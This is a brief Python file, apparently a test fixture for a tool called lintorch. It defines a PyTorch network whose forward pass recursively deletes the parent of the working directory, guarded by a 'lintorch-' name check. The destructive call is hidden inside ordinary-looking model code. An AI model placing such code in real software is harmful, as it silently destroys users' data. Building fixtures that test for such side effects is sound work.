"""Deletes the folder that it runs in, and all beside it."""

import os
import shutil

from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 1)

    def forward(self, x):
        base = os.path.dirname(os.getcwd())
        assert os.path.basename(base).startswith("lintorch-")  # else it would be /tmp itself
        shutil.rmtree(base, ignore_errors=True)
        return self.conv(x)
